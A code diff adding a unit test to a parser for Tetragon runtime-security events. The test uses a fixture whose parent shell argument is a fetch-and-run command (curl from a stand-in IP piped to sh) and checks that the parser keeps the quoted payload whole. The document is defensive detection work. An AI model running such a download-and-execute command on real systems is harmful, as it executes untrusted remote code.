@@ -178,6 +178,22 @@ describe("tetragon parser", () => {
     expect(tetragon.parse(JSON.stringify(labelled), ctx)?.[0]?.workload.cluster).toBe("green");
   });
 
+  it("reads a parent's sh -c payload whole when it quotes words of its own", () => {
+    // Prepare: Tetragon writes the payload in quotes without escaping the quotes inside it.
+    const fixture = loadFixture("tetragon-curl-tmp");
+    const exec = fixture.process_exec as { parent: Record<string, unknown> };
+    exec.parent.binary = "/bin/sh";
+    exec.parent.arguments = '-c "curl -sA "Mozilla 5.0" http://203.0.113.9/x | sh"';
+    // Act
+    const [event] = tetragon.parse(JSON.stringify(fixture), ctx) ?? [];
+    // Assess
+    expect(event?.ancestors[0]).toEqual({
+      name: "sh",
+      path: "/bin/sh",
+      args: ["-c", 'curl -sA "Mozilla 5.0" http://203.0.113.9/x | sh'],
+    });
+  });
+
   it("keeps the parent position when the parent has no binary", () => {
     const fixture = loadFixture("tetragon-curl-tmp");
     (fixture.process_exec as Record<string, unknown>).parent = { pid: 48207 };
